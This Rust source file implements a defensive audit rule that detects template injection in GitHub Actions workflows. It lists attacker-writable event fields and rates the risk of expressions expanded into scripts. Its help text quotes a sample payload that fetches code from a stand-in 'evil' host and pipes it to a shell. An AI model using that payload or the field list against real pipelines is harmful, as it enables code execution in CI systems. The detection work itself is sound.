//! `template-injection`: `${{ … }}` expressions with attacker-controllable values expanded
//! into `run:` scripts or `actions/github-script` code.

use std::collections::BTreeSet;

use super::{Audit, Context, Rating, Sink};
use crate::ci_audit::doc::{CiDoc, DocKind};
use crate::ci_audit::expr::{self, CtxRef};
use crate::ci_audit::github::{self, StepRef};
use crate::ci_audit::shell;
use crate::ci_audit::yaml::{self, Node};
use crate::ci_audit::{Confidence, Severity};

pub struct TemplateInjection;

/// Event fields an outsider writes (titles, bodies, branch names, commit messages, …).
const ATTACKER: &[&str] = &[
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.head_commit.committer.email",
    "github.event.head_commit.committer.name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.commits.*.committer.email",
    "github.event.commits.*.committer.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
];

const FIX: &str = "Pass the value through an environment variable and quote it in the \
     script: `env: VALUE: ${{ … }}` then `\"$VALUE\"` (in github-script, read \
     `process.env.VALUE`).";

/// Input types whose values cannot carry text.
const SAFE_INPUT_TYPES: &[&str] = &["boolean", "number", "choice", "environment"];

impl Audit for TemplateInjection {
    fn id(&self) -> &'static str {
        "template-injection"
    }
    fn severity(&self) -> Severity {
        Severity::High
    }
    fn description(&self) -> &'static str {
        "`${{ … }}` expressions with attacker-controllable values (issue and pull request \
         titles and bodies, branch names, commit messages, comments; less surely inputs and \
         step outputs) expanded into `run:` scripts or github-script code."
    }
    fn help(&self) -> &'static str {
        "Expressions are substituted into the script text before the shell runs, so a value \
         like `\"; curl evil | sh; #` becomes code. Environment variables are not re-parsed."
    }

    fn check(&self, cx: &Context<'_>, out: &mut Sink<'_>) {
        for doc in cx.github() {
            let safe_inputs = typed_inputs(doc);
            for step in github::all_steps(doc) {
                if let Some(run) = step.run() {
                    scan(doc, &step, run, "`run:`", &safe_inputs, out);
                }
                if step
                    .action()
                    .as_deref()
                    .is_some_and(github::is_github_script)
                    && let Some(script) = step.with("script")
                {
                    scan(
                        doc,
                        &step,
                        script,
                        "github-script `script:`",
                        &safe_inputs,
                        out,
                    );
                }
            }
        }
    }
}

/// Workflow inputs declared only with types that cannot carry text.
fn typed_inputs(doc: &CiDoc) -> BTreeSet<String> {
    let mut typed = BTreeSet::new();
    let mut text = BTreeSet::new();
    if doc.kind != DocKind::Workflow {
        return typed;
    }
    for t in github::triggers(&doc.root) {
        let Some(inputs) = t.config.and_then(|c| c.get("inputs")) else {
            continue;
        };
        for e in inputs.entries() {
            let Some(name) = e.key.as_str() else {
                continue;
            };
            let ty = e
                .value
                .get("type")
                .and_then(Node::as_str)
                .unwrap_or("string");
            if SAFE_INPUT_TYPES.contains(&ty) {
                typed.insert(name.to_ascii_lowercase());
            } else {
                text.insert(name.to_ascii_lowercase());
            }
        }
    }
    typed.difference(&text).cloned().collect()
}

/// How risky one context reference is, with a description.
fn classify(r: &CtxRef, safe_inputs: &BTreeSet<String>) -> Option<(Rating, String)> {
    if r.contained {
        return None;
    }
    let p = r.path.as_str();
    if ATTACKER.iter().any(|a| expr::path_matches(a, p)) {
        return Some((
            Rating(Severity::High, Confidence::High),
            format!("attacker-controllable `{p}`"),
        ));
    }
    if p.starts_with("github.event.")
        && p.split('.').count() >= 3
        && ATTACKER.iter().any(|a| expr::path_contains(p, a))
    {
        return Some((
            Rating(Severity::High, Confidence::Medium),
            format!("`{p}`, which contains attacker-controllable fields"),
        ));
    }
    let input = p
        .strip_prefix("inputs.")
        .or_else(|| p.strip_prefix("github.event.inputs."));
    if let Some(name) = input {
        if safe_inputs.contains(name) {
            return None;
        }
        return Some((
            Rating(Severity::Medium, Confidence::Low),
            format!("the input `{p}`, which whoever triggers or calls this may set"),
        ));
    }
    if expr::path_matches("steps.*.outputs.*", p) || expr::path_matches("needs.*.outputs.*", p) {
        return Some((
            Rating(Severity::Low, Confidence::Low),
            format!("the output `{p}`, which may carry untrusted text"),
        ));
    }
    None
}

fn scan(
    doc: &CiDoc,
    step: &StepRef<'_>,
    node: &Node,
    place: &str,
    safe_inputs: &BTreeSet<String>,
    out: &mut Sink<'_>,
) {
    let Some(text) = node.as_str() else {
        return;
    };
    let mut reported = 0;
    for e in expr::expressions(text) {
        if reported >= shell::MAX_PER_SCRIPT {
            break;
        }
        let worst = expr::context_refs(e.inner)
            .iter()
            .filter_map(|r| classify(r, safe_inputs))
            .max_by_key(|(Rating(s, c), _)| (*s, *c));
        let Some((rating, what)) = worst else {
            continue;
        };
        reported += 1;
        let pos = yaml::locate(&doc.src, node, e.start, 3);
        let shown = text.get(e.start..e.start + e.len).unwrap_or_default();
        out.pos(
            &doc.path,
            pos,
            rating,
            format!(
                "`{}` in {place} of {} is expanded into code; it carries {what}",
                github::one_line(shown),
                step.label()
            ),
            FIX,
        );
    }
}
